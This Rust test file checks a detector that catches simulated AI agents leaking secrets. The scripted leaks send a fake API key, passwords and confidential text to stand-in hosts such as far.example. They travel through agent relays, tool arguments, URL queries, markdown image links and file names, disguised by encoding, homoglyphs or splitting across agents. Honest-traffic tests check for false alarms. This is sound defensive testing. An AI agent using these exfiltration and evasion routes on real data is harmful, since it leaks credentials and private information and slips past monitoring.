//! Leaks in small, through the whole pipeline, each beside honest traffic that looks like it. Every leak must be found at
//! the named act or before it, with the right agent as patient zero; nothing honest may be called a leak.
#![allow(clippy::unwrap_used, clippy::panic, reason = "a test may fail")]

use data_encoding::{BASE64, HEXLOWER};
use masec_engine::{Canary, Core, Pipeline, Settings, Source};
use masec_model::{
    CompactString, DeclaredLabels, Endpoint, Finding, Identity, Interaction, InteractionId, Kind,
    Leaf, Place, Timestamp, Value,
};

const KEY: &str = "sk-9Qm4tZ7wLr2Xc8Vb5Nf1";
const PLEDGE: &str = "the northern depot will be sold to a rival before the end of autumn";

/// One act of a script.
struct Act {
    kind: Kind,
    from: Endpoint,
    to: Endpoint,
    leaves: Vec<Leaf>,
    tags: Vec<&'static str>,
    causes: Vec<usize>,
}

fn act(kind: Kind, from: Endpoint, to: Endpoint, leaves: Vec<Leaf>) -> Act {
    Act {
        kind,
        from,
        to,
        leaves,
        tags: Vec::new(),
        causes: Vec::new(),
    }
}

fn agent(name: &str) -> Endpoint {
    Endpoint::agent(name)
}

fn fields(of: &[(&str, &str)]) -> Vec<Leaf> {
    of.iter()
        .map(|(path, text)| Leaf::field(*path, Value::Text((*text).to_owned())))
        .collect()
}

fn words(text: &str) -> Vec<Leaf> {
    vec![Leaf::text(text)]
}

/// `who` reads running text in a store.
fn reads(who: &str, store: &str, text: &str) -> Act {
    act(
        Kind::Read,
        Endpoint::resource(store),
        agent(who),
        words(text),
    )
}

/// `who` reads a record.
fn record(who: &str, store: &str, of: &[(&str, &str)]) -> Act {
    act(
        Kind::Read,
        Endpoint::resource(store),
        agent(who),
        fields(of),
    )
}

fn tagged(mut act: Act, tag: &'static str) -> Act {
    act.tags.push(tag);
    act
}

fn says(from: &str, to: &str, text: &str) -> Act {
    act(Kind::Message, agent(from), agent(to), words(text))
}

fn writes(who: &str, file: &str, text: &str) -> Act {
    act(
        Kind::Write,
        agent(who),
        Endpoint::resource(file),
        words(text),
    )
}

fn tells(who: &str, partner: &str, text: &str) -> Act {
    act(
        Kind::Message,
        agent(who),
        Endpoint::institution(partner),
        words(text),
    )
}

fn calls(who: &str, tool: &str, of: &[(&str, &str)]) -> Act {
    act(
        Kind::ToolCall,
        agent(who),
        Endpoint::resource(tool),
        fields(of),
    )
}

fn asks(person: &str, who: &str, text: &str) -> Act {
    act(
        Kind::Message,
        Endpoint::human(person),
        agent(who),
        words(text),
    )
}

fn brings(partner: &str, who: &str, text: &str) -> Act {
    act(
        Kind::Message,
        Endpoint::institution(partner),
        agent(who),
        words(text),
    )
}

/// `person` approves what was done at these places of the script.
fn approves(person: &str, who: &str, causes: &[usize]) -> Act {
    let mut approval = act(
        Kind::Approve,
        Endpoint::human(person),
        agent(who),
        words("approved"),
    );
    approval.causes = causes.to_vec();
    approval
}

fn vault(who: &str) -> Act {
    record(who, "vault/deploy", &[("owner", "ines"), ("api_key", KEY)])
}

/// What `leak` says, with the place of the act at which it said it.
fn run(settings: &Settings, script: &[Act]) -> Vec<(usize, Finding)> {
    let core = Core::new(settings.clone()).unwrap();
    let mut pipeline = Pipeline::new(&core);
    let mut all = Vec::new();
    for (step, act) in script.iter().enumerate() {
        let tool = (act.kind == Kind::ToolCall).then(|| act.to.name.clone());
        let interaction = Interaction {
            id: InteractionId(step as u128 + 1),
            time: None,
            kind: act.kind,
            from: act.from.clone(),
            to: act.to.clone(),
            channel: CompactString::default(),
            session: CompactString::default(),
            causes: act
                .causes
                .iter()
                .map(|&cause| InteractionId(cause as u128 + 1))
                .collect(),
            content: act.leaves.clone(),
            identity: Identity::Recorded,
            labels: DeclaredLabels {
                secrecy: act
                    .tags
                    .iter()
                    .map(|tag| CompactString::from(*tag))
                    .collect(),
                ..DeclaredLabels::default()
            },
            place: Place {
                step: u32::try_from(step).unwrap(),
                call: None,
                tool,
            },
        };
        let outcome = pipeline.step(&interaction, Timestamp(0));
        let leaks = outcome
            .findings
            .into_iter()
            .filter(|finding| finding.detector == "leak");
        all.extend(leaks.map(|finding| (step, finding)));
    }
    all
}

/// The first finding comes at the last act or before it, after the first, and names `zero` first.
fn leaks(name: &str, zero: &str, script: &[Act]) {
    leaks_with(&Settings::default(), name, zero, script);
}

fn leaks_with(settings: &Settings, name: &str, zero: &str, script: &[Act]) {
    let found = run(settings, script);
    let Some((step, finding)) = found.first() else {
        panic!("{name}: nothing found");
    };
    assert!(*step > 0, "{name}: at {step}");
    assert_eq!(
        finding.patient_zero,
        Some(agent(zero)),
        "{name}: {}",
        finding.summary
    );
    assert_eq!(finding.subjects[0].endpoint, agent(zero), "{name}");
    let shown = finding.summary.to_lowercase();
    assert!(
        !shown.contains("9qm4") && !shown.contains("northern"),
        "{name}: shows the secret"
    );
}

fn honest(name: &str, script: &[Act]) {
    honest_with(&Settings::default(), name, script);
}

fn honest_with(settings: &Settings, name: &str, script: &[Act]) {
    let found = run(settings, script);
    assert!(
        found.is_empty(),
        "{name}: {} at {}",
        found[0].1.summary,
        found[0].0
    );
}

fn spaced(text: &str) -> String {
    text.chars().flat_map(|c| [c, ' ']).collect()
}

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

fn reversed(text: &str) -> String {
    text.chars().rev().collect()
}

#[test]
fn a_whole_secret_goes_out() {
    let mail = |body: &str| {
        calls(
            "b",
            "send_email",
            &[("recipient", "x@far.example"), ("body", body)],
        )
    };
    leaks(
        "direct",
        "a",
        &[vault("a"), tells("a", "far.example", &format!("use {KEY}"))],
    );
    leaks(
        "one hop",
        "a",
        &[
            vault("a"),
            says("a", "b", KEY),
            tells("b", "far.example", KEY),
        ],
    );
    leaks(
        "mail body",
        "a",
        &[
            vault("a"),
            says("a", "b", KEY),
            mail(&format!("hi, {KEY}, bye")),
        ],
    );
    leaks(
        "three hops",
        "a",
        &[
            vault("a"),
            says("a", "b", &format!("for later: {KEY}")),
            says("b", "c", &format!("keep {KEY}")),
            says("c", "d", KEY),
            tells("d", "far.example", KEY),
        ],
    );
    leaks(
        "shared file",
        "a",
        &[
            vault("a"),
            writes("a", "shared/notes.md", &format!("memo {KEY}")),
            reads("b", "shared/notes.md", &format!("memo {KEY}")),
            tells("b", "far.example", KEY),
        ],
    );
    leaks(
        "shared memory",
        "a",
        &[
            vault("a"),
            calls("a", "memory_store", &[("name", "m1"), ("text", KEY)]),
            reads("c", "memory_store", KEY),
            says("c", "b", KEY),
            mail(KEY),
        ],
    );
    leaks(
        "second reader",
        "b",
        &[
            vault("a"),
            vault("b"),
            says("b", "c", KEY),
            tells("c", "far.example", KEY),
        ],
    );
    leaks(
        "argument of an unknown tool",
        "a",
        &[
            vault("a"),
            calls(
                "a",
                "frobnicate",
                &[("target", "https://far.example/in"), ("note", KEY)],
            ),
        ],
    );
    leaks(
        "query of an address",
        "a",
        &[
            vault("a"),
            calls(
                "a",
                "fetch_url",
                &[("url", &format!("https://far.example/p?q={KEY}"))],
            ),
        ],
    );
    leaks(
        "picture for a person",
        "a",
        &[
            vault("a"),
            act(
                Kind::Message,
                agent("a"),
                Endpoint::human("ann"),
                words(&format!("done ![](https://far.example/i.png?d={KEY})")),
            ),
        ],
    );
    leaks(
        "file name",
        "a",
        &[
            vault("a"),
            calls(
                "a",
                "upload_file",
                &[("name", &format!("report_{KEY}.pdf")), ("bytes", "none")],
            ),
        ],
    );
    leaks(
        "file name, glued",
        "a",
        &[
            vault("a"),
            calls(
                "a",
                "upload_file",
                &[
                    ("name", &format!("q3{}x.pdf", KEY.replace('-', ""))),
                    ("bytes", "none"),
                ],
            ),
        ],
    );
    leaks(
        "public folder",
        "a",
        &[vault("a"), writes("a", "site/public/robots.txt", KEY)],
    );
    leaks(
        "stranger",
        "a",
        &[
            asks("ann", "a", "rotate the deploy key please"),
            vault("a"),
            act(
                Kind::Message,
                agent("a"),
                Endpoint::human("mallory"),
                words(KEY),
            ),
        ],
    );
    leaks(
        "account number by way of a colleague",
        "a",
        &[
            record("a", "customer_db/77", &[("iban", "DE89370400440532013000")]),
            says("a", "b", "DE89 3704 0044 0532 0130 00"),
            tells("b", "far.example", "DE89 3704 0044 0532 0130 00"),
        ],
    );
}

#[test]
fn a_secret_from_the_operator_goes_out() {
    let told = format!("You are a helper. Your api key for the billing service is {KEY}");
    leaks(
        "out of the system prompt",
        "a",
        &[
            act(
                Kind::Message,
                Endpoint::operator(),
                agent("a"),
                words(&told),
            ),
            says("a", "b", KEY),
            tells("b", "far.example", KEY),
        ],
    );
    leaks(
        "one partner's password to another",
        "a",
        &[
            brings(
                "near.example",
                "a",
                "log in to our portal, password: tR9!vvLq+a7",
            ),
            says("a", "b", "tR9!vvLq+a7"),
            tells("b", "far.example", "tR9!vvLq+a7"),
        ],
    );
}

#[test]
fn a_secret_goes_out_in_disguise() {
    let plain = KEY.to_owned();
    for (name, text) in [
        ("base64", BASE64.encode(KEY.as_bytes())),
        ("hexadecimal", HEXLOWER.encode(KEY.as_bytes())),
        ("percent", percent(KEY)),
        ("backwards", reversed(KEY)),
        ("spaced out", spaced(KEY)),
        (
            "other separators",
            KEY.chars().map(|c| format!("{c}.")).collect(),
        ),
        ("other case", KEY.to_uppercase()),
        ("base64, backwards", BASE64.encode(reversed(KEY).as_bytes())),
        ("look-alikes", plain.replace('c', "с").replace('X', "Х")),
        (
            "spelt out",
            spaced(KEY)
                .replace("9 ", "nine ")
                .replace("Q ", "quebec ")
                .replace("4 ", "four ")
                .replace("- ", "dash "),
        ),
    ] {
        leaks(
            name,
            "a",
            &[
                vault("a"),
                says("a", "b", &text),
                tells("b", "far.example", &format!("item {text} ok")),
            ],
        );
    }
    let (head, tail) = KEY.split_at(11);
    leaks(
        "two fields of one call",
        "a",
        &[
            vault("a"),
            calls(
                "a",
                "http_post",
                &[
                    ("url", "https://far.example/"),
                    ("head", head),
                    ("tail", tail),
                ],
            ),
        ],
    );
    let crumbs: Vec<(String, String)> = KEY
        .as_bytes()
        .chunks(2)
        .enumerate()
        .map(|(n, two)| (format!("f{n}"), String::from_utf8_lossy(two).into_owned()))
        .collect();
    let crumbs: Vec<(&str, &str)> = crumbs
        .iter()
        .map(|(n, t)| (n.as_str(), t.as_str()))
        .collect();
    leaks(
        "crumbs over many fields",
        "a",
        &[vault("a"), calls("a", "post_webhook", &crumbs)],
    );
}

#[test]
fn a_secret_goes_out_in_pieces() {
    let (one, rest) = KEY.split_at(8);
    let (two, three) = rest.split_at(8);
    leaks(
        "to two colleagues who both post",
        "a",
        &[
            vault("a"),
            says("a", "b", &format!("code {one}")),
            says("a", "c", &format!("label {two}{three}")),
            tells("b", "far.example", &format!("code {one}")),
            tells("c", "near.example", &format!("label {two}{three}")),
        ],
    );
    leaks(
        "in another order, each in its own code",
        "a",
        &[
            vault("a"),
            says("a", "b", &BASE64.encode(three.as_bytes())),
            says("a", "c", &HEXLOWER.encode(one.as_bytes())),
            says("a", "d", &reversed(two)),
        ],
    );
    leaks(
        "put together outside the sight of its source",
        "a",
        &[
            vault("a"),
            writes("a", "shared/x.md", &format!("x {one}{two}")),
            reads("b", "shared/x.md", &format!("x {one}{two}")),
            says("a", "b", three),
            tells("b", "far.example", KEY),
        ],
    );
    let parts: Vec<String> = PLEDGE
        .split(' ')
        .collect::<Vec<_>>()
        .chunks(5)
        .map(|part| part.join(" "))
        .collect();
    leaks(
        "a sentence in parts, by three hands",
        "a",
        &[
            tagged(
                reads("a", "board/7", &format!("Minutes. {PLEDGE}. End.")),
                "board",
            ),
            says("a", "b", &parts[0]),
            says("a", "c", &BASE64.encode(parts[1].as_bytes())),
            tells("b", "far.example", &format!("fyi {}", parts[0])),
            tells("c", "far.example", &BASE64.encode(parts[1].as_bytes())),
            tells("a", "near.example", &parts[2]),
        ],
    );
    let settings = Settings {
        canaries: vec![Canary {
            name: "c1".into(),
            value: PLEDGE.into(),
        }],
        ..Settings::default()
    };
    leaks_with(
        &settings,
        "a canary that is a sentence, in parts",
        "a",
        &[
            reads("a", "board/7", PLEDGE),
            tells("a", "far.example", &parts[0]),
            tells("a", "near.example", &parts[1].to_uppercase()),
            tells("a", "far.example", &parts[2]),
        ],
    );
}

#[test]
fn tagged_content_goes_out() {
    leaks(
        "tagged sentence by way of a colleague",
        "a",
        &[
            tagged(reads("a", "board/7", PLEDGE), "board"),
            says("a", "b", &format!("between us: {PLEDGE}")),
            tells("b", "far.example", &format!("news: {PLEDGE}, really")),
        ],
    );
    leaks(
        "tagged password",
        "a",
        &[
            tagged(
                record("a", "crm/9", &[("login.secret", "tR9!vvLq+a7")]),
                "credentials",
            ),
            says("a", "b", "tR9!vvLq+a7"),
            calls("b", "post_webhook", &[("body", "tR9!vvLq+a7")]),
        ],
    );
    let told = Settings {
        tools: Some(Source {
            name: "tools.json".into(),
            text: r#"{"tools": {"ledger_sync": {"reach": "outside"}, "send_email": {"reach": "inside"}}}"#.into(),
        }),
        ..Settings::default()
    };
    leaks_with(
        &told,
        "a tool that the operator says reaches out",
        "a",
        &[
            tagged(reads("a", "board/7", PLEDGE), "board"),
            calls("a", "ledger_sync", &[("memo", PLEDGE)]),
        ],
    );
    honest_with(
        &told,
        "a tool that the operator says stays inside",
        &[
            tagged(reads("a", "board/7", PLEDGE), "board"),
            calls("a", "send_email", &[("recipient", "ann"), ("body", PLEDGE)]),
        ],
    );
    let strict = Settings {
        mode: masec_engine::Mode::Strict,
        ..Settings::default()
    };
    let gist = [
        tagged(reads("a", "board/7", PLEDGE), "board"),
        tells("a", "far.example", "a big site up there changes hands soon"),
    ];
    leaks_with(&strict, "in its own words, in the strict mode", "a", &gist);
    honest("in its own words, in the traced mode", &gist);
}

#[test]
fn secrets_are_used_where_they_belong() {
    honest(
        "inside, from hand to hand",
        &[
            vault("a"),
            says("a", "b", KEY),
            says("b", "c", &format!("it is {KEY}")),
        ],
    );
    honest(
        "at the tool that needs it",
        &[
            vault("a"),
            says("a", "b", KEY),
            calls(
                "b",
                "deploy_api",
                &[("credential", KEY), ("object", "web-1")],
            ),
        ],
    );
    honest(
        "shown to its own service",
        &[
            record(
                "a",
                "vault/brevium",
                &[("service", "brevium"), ("api_key", KEY)],
            ),
            says("a", "b", KEY),
            calls(
                "b",
                "http_post",
                &[
                    ("url", "https://api.brevium.example/v1"),
                    ("headers.authorization", &format!("Bearer {KEY}")),
                ],
            ),
        ],
    );
    leaks(
        "shown to another's service",
        "a",
        &[
            record(
                "a",
                "vault/brevium",
                &[("service", "brevium"), ("api_key", KEY)],
            ),
            says("a", "b", KEY),
            calls(
                "b",
                "http_post",
                &[
                    ("url", "https://api.far.example/v1"),
                    ("headers.authorization", &format!("Bearer {KEY}")),
                ],
            ),
        ],
    );
    honest(
        "a handle goes home",
        &[
            brings(
                "shop.example",
                "a",
                "your session token is tk_83hdK20sLq7Zm4Xc91",
            ),
            says("a", "b", "tk_83hdK20sLq7Zm4Xc91"),
            tells("b", "shop.example", "token tk_83hdK20sLq7Zm4Xc91"),
        ],
    );
    honest(
        "back into its store",
        &[
            vault("a"),
            writes("a", "vault/deploy", &format!("rotated from {KEY}")),
        ],
    );
    honest(
        "a bill is paid",
        &[
            record(
                "a",
                "bills/3",
                &[("iban", "DE89370400440532013000"), ("amount", "120.00")],
            ),
            says("a", "b", "pay DE89370400440532013000"),
            calls(
                "b",
                "send_money",
                &[
                    ("recipient", "DE89370400440532013000"),
                    ("amount", "120.00"),
                ],
            ),
        ],
    );
    honest(
        "the principal's own word",
        &[
            asks(
                "ann",
                "a",
                "send our IBAN DE89370400440532013000 to near.example",
            ),
            says(
                "a",
                "b",
                "please send DE89370400440532013000 to near.example",
            ),
            tells("b", "near.example", "our account: DE89370400440532013000"),
        ],
    );
    let first = [
        vault("a"),
        tells("a", "near.example", KEY),
        approves("ann", "a", &[1]),
    ];
    let again = tells("a", "near.example", KEY);
    let found = run(&Settings::default(), &[&first[..], &[again]].concat_acts());
    assert_eq!(found.len(), 1, "an approval covers the same receiver");
    let elsewhere = tells("a", "far.example", KEY);
    let found = run(
        &Settings::default(),
        &[&first[..], &[elsewhere]].concat_acts(),
    );
    assert_eq!(found.len(), 2, "and no other");
    let own = [
        vault("a"),
        tells("a", "near.example", KEY),
        act(Kind::Approve, agent("b"), agent("a"), words("approved")),
        tells("a", "near.example", KEY),
    ];
    let mut own = own;
    own[2].causes = vec![1];
    assert_eq!(
        run(&Settings::default(), &own).len(),
        1,
        "near.example has it by then"
    );
}

/// Scripts one after the other.
trait Concat {
    fn concat_acts(&self) -> Vec<Act>;
}

impl Concat for [&[Act]; 2] {
    fn concat_acts(&self) -> Vec<Act> {
        self.iter()
            .flat_map(|part| part.iter())
            .map(|one| Act {
                kind: one.kind,
                from: one.from.clone(),
                to: one.to.clone(),
                leaves: one.leaves.clone(),
                tags: one.tags.clone(),
                causes: one.causes.clone(),
            })
            .collect()
    }
}

#[test]
fn what_only_looks_secret_may_travel() {
    let sha = "3f1c9ab27d40e58861bb02fd97ac3e5540d91c6a";
    let long = "7d865e959b2466918c9863afca942d0fb89d7c9ac0c99bafc3749504ded97730";
    for (name, path, value) in [
        ("commit", "commit", sha),
        ("bare hash", "value", sha),
        ("checksum", "sha256", long),
        ("uuid", "row", "6fa459ea-ee8a-4ca4-894e-db77e160355e"),
        ("order number", "order", "ORD-2031-77K20P4"),
        ("bare order number", "field", "ORD-2031-77K20P4"),
        ("ticket", "ticket", "INC0048213377X19"),
        ("tracking number", "parcel", "1Z84E91A0398127754"),
        (
            "public key",
            "public_key",
            "AAAAB3NzaC1yc2EAAAADAQABAAABgQC7",
        ),
        (
            "key of the documentation",
            "api_key",
            "AKIAIOSFODNN7EXAMPLE",
        ),
        ("place for a key", "api_key", "your-api-key-here-123"),
        ("a mask", "api_key", "sk-…f1Nf"),
        ("template", "password", "${DB_PASSWORD_2}"),
        ("page token", "next_page_token", "CAUQAA83hdK20sLq7Zm4Xc91"),
        ("day", "password_changed", "2031-04-17"),
    ] {
        honest(
            name,
            &[
                record("a", "records_db/5", &[("owner", "ines"), (path, value)]),
                says("a", "b", &format!("about {value}, see below")),
                says("b", "c", value),
                tells("c", "near.example", &format!("regarding {value}: all done")),
                calls(
                    "c",
                    "send_email",
                    &[("recipient", "x@near.example"), ("body", value)],
                ),
            ],
        );
    }
}

#[test]
fn talk_about_secrets_is_no_leak() {
    honest(
        "masked, the same way each time",
        &[
            vault("a"),
            says("a", "b", "the key sk-9…5Nf1 is about to expire"),
            tells(
                "b",
                "near.example",
                "our key ending in 5Nf1 expires on friday",
            ),
            tells("a", "near.example", "yes, the one that ends in 5Nf1"),
        ],
    );
    honest(
        "a policy about secrets",
        &[
            reads(
                "a",
                "wiki/secrets-policy",
                "Never send an api key, a password or a token by mail. Rotate keys every 90 days.",
            ),
            says(
                "a",
                "b",
                "> Never send an api key, a password or a token by mail.",
            ),
            tells(
                "b",
                "near.example",
                "our rule: Never send an api key, a password or a token by mail. Rotate keys every 90 days.",
            ),
        ],
    );
    honest(
        "a name on a tagged record",
        &[
            tagged(
                record(
                    "a",
                    "patients/4",
                    &[
                        ("owner", "Ottoline Brackenridge"),
                        ("visit_id", "VN88213377102"),
                        ("created", "2031-04-17"),
                    ],
                ),
                "health",
            ),
            says("a", "b", "visit VN88213377102 of 2031-04-17 is booked"),
            tells(
                "b",
                "near.example",
                "Ottoline Brackenridge is expected, visit VN88213377102, 2031-04-17",
            ),
        ],
    );
    honest(
        "the same words from who never got the tagged ones",
        &[
            tagged(reads("a", "board/7", PLEDGE), "board"),
            tells("z", "near.example", PLEDGE),
        ],
    );
    honest(
        "a section of a text by each of three, put together and sent",
        &[
            says(
                "b",
                "a",
                "In spring the ferries ran late on nine days, mostly for fog.",
            ),
            says(
                "c",
                "a",
                "Summer saw a record of 48210 guests on the island lines.",
            ),
            tells(
                "a",
                "near.example",
                "In spring the ferries ran late on nine days, mostly for fog. Summer saw a record of 48210 guests on the island lines.",
            ),
        ],
    );
}
